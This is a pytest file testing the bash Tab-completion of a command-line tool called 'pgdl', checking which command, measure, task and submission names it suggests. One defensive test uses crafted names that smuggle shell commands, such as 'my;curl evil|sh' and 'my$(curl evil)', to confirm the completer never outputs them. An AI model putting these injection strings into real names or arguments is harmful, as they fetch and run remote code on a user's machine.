"""Tests of the completions that a shell receives when the user presses Tab."""

import os
import subprocess
import sys
from pathlib import Path

import pytest
from in_process import Record

from tests.board.board_examples import rows
from tests.throwaway import make_task

ROOT = Path(__file__).parents[2]
PGDL = "import sys; sys.argv[0] = 'pgdl'; from harness.cli.main import main; main()"


def completed(line: str, folder: Path) -> list[str]:
    """Return the completions that bash would offer after LINE, whose last word is incomplete."""
    words = line.split(" ")
    environment = os.environ | {
        "PYTHONPATH": str(ROOT), "_PGDL_COMPLETE": "bash_complete", "COMP_WORDS": line,
        "COMP_CWORD": str(len(words) - 1),
    }  # fmt: skip
    done = subprocess.run([sys.executable, "-c", PGDL], capture_output=True, text=True, cwd=folder, env=environment)
    assert (done.returncode, done.stderr) == (0, "")
    return done.stdout.split()


@pytest.mark.rest
@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("pgdl doc", ["plain,doctor"]),
        ("pgdl run gi_intra", ["plain,gi_intra_l0", "plain,gi_intra_l1"]),
        ("pgdl check my_mea", ["file,my_mea"]),
        ("pgdl measures num_par", ["plain,num_params"]),
        ("pgdl compare --measures che", ["plain,cheap"]),
        ("pgdl compare --measures cheap,gi_intra", ["plain,cheap,gi_intra_l0", "plain,cheap,gi_intra_l1"]),
        (
            "pgdl compare --measures grad",
            [f"plain,gradient{end}" for end in ("s", "", "_confusion", "_norm", "_noise_final")],
        ),
        ("pgdl measures --cost g", ["plain,gradients"]),
        ("pgdl score --task ti", ["plain,tiny"]),
        ("pgdl score --tasks nowhere --task ti", []),
        ("pgdl task val", ["plain,validate"]),
        ("pgdl task build pgdl_task1", ["plain,pgdl_task1"]),
        ("pgdl task build my_rec", ["file,my_rec"]),
        ("pgdl score my_", ["plain,my_first", "plain,my_second"]),
        ("pgdl report my_f", ["plain,my_first"]),
        ("pgdl results --submission my_s", ["plain,my_second"]),
        ("pgdl score --results elsewhere.db my_", ["file,my_"]),
        ("pgdl results --results task_data --submission my_", []),
    ],
)
def test_bash(line: str, expected: list[str], folder: Path, record: Record) -> None:
    make_task(folder / "task_data")
    record([*rows("my_first"), *rows("my_second")])
    assert completed(line, folder) == expected


@pytest.mark.rest
@pytest.mark.parametrize("name", ["my;curl evil|sh", "my$(curl evil)", "my`curl evil`", "my\nfile,evil", "my\x1b[31m"])
def test_names_of_strangers_write_no_command(name: str, folder: Path, record: Record) -> None:
    make_task(folder / "task_data")
    (folder / "task_data" / "tiny").rename(folder / "task_data" / name)
    record([*rows(name), *rows("my_first")])
    assert completed("pgdl results --submission m", folder) == ["plain,my_first"]
    assert completed("pgdl score --task m", folder) == []
